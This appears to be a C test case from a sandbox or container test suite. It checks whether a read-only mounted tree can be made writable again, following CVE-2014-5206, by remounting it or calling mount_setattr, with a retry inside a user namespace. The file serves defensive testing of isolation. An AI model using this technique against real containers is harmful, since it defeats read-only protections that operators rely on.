/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: no capabilities over the mounts; filter: no mounts
 * cve: CVE-2014-5206
 * off: --cap-add CAP_SYS_ADMIN --syscalls-allow @mounts
 * options: --ro {T}/tree
 * behind: --allow-userns
 * as: user root
 * cases: mount mount_setattr
 * args: {T}/tree
 * setup: tree
 *
 * A tree that is shown read-only is made writable again.
 */
#include "attack.h"
#include <linux/mount.h>
#include <sys/mount.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

static int make_writable(const char *which, const char *tree)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	if (is(which, "mount"))
		return mount(NULL, tree, NULL, MS_REMOUNT | MS_BIND, NULL);
	return (int)syscall(SYS_mount_setattr, AT_FDCWD, tree, 0, &attr,
			    sizeof(attr));
}

int main(int argc, char **argv)
{
	char path[4096];
	int error;

	if (argc < 3)
		broken("arguments");
	if (make_writable(argv[1], argv[2])) {
		error = errno;
		if (enter_userns(CLONE_NEWNS)) {
			errno = error;
			refused("%s", argv[1]);
		}
		if (make_writable(argv[1], argv[2]))
			refused("%s in a user namespace", argv[1]);
	}
	snprintf(path, sizeof(path), "%s/outside", argv[2]);
	if (!writes(path, "secret 2"))
		refused("write");
	through("the file is written");
}
